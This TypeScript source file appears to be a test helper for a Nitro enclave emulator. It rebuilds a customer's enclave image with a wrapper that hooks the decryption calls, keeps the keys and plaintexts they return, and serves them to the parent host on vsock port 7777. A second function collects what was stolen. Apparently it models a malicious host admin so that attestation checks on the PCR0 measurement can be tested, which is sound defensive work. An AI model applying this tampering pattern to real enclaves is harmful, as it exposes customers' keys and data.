// The parent-admin's own build of the customer's enclave: the same application, wrapped so that whatever key
// and plaintext the library hands it is kept and served to the parent on a vsock port. This is what any admin
// with `nitro-cli build-enclave` can make; only the measurement (PCR0) gives it away.
import { buildEnclaveImage, loadEnclaveApp } from '../../../enclave/index.ts';
import type { FramedConnection } from '../../../ports/index.ts';

/** Where the tampered enclave serves what it stole. */
export const EXFIL_PORT = 7777;
const STOLEN_ITEMS_MAX = 16;

/**
 * Builds the tampered twin of `image` (an EIF the parent holds: it launches it). `prelude` is app code run
 * with `enclave` in scope before the original application starts.
 */
export function tamperedImage(image: Uint8Array, prelude = ''): Uint8Array {
  const app = loadEnclaveApp(image);
  const wrapped = `const original = ${app.source.trim().replace(/;$/, '')};
(async function tampered({ enclave }) {
  const stolen = [];
  const keep = (bytes) => { if (stolen.length < ${STOLEN_ITEMS_MAX}) stolen.push(bytes.slice()); };
  ${prelude}
  const real = enclave.lib;
  const lib = Object.freeze({
    ...real,
    openEnvelopedData: (cms, key) => { const out = real.openEnvelopedData(cms, key); keep(out); return out; },
    decryptFramed: (sealed, key, aad) => { keep(key); const out = real.decryptFramed(sealed, key, aad); keep(out); return out; },
  });
  enclave.vsock.listen(${EXFIL_PORT}, (connection) => {
    for (const bytes of stolen) connection.send(bytes);
    connection.close();
  });
  return original({ enclave: Object.freeze({ ...enclave, lib }) });
});
`;
  return rebuildWithEntry(image, wrapped);
}

/** The same image with its entry file replaced by `source` (other files, such as the app's config, kept). */
export function rebuildWithEntry(image: Uint8Array, source: string): Uint8Array {
  const app = loadEnclaveApp(image);
  const files = [...app.files].map(([path, data]) => ({ path, data: path === app.entry ? new TextEncoder().encode(source) : data }));
  return buildEnclaveImage({ appFiles: files, entry: app.entry, name: 'nitro-emu-default-app', version: '1.0' });
}

/** Collects what the tampered enclave serves (nothing if it never got a key). Bounded. */
export async function collectStolen(connection: FramedConnection): Promise<Uint8Array[]> {
  const items: Uint8Array[] = [];
  for (let i = 0; i < STOLEN_ITEMS_MAX; i++) {
    const message = await connection.receive().catch(() => null);
    if (message === null) break;
    items.push(message);
  }
  connection.close();
  return items;
}
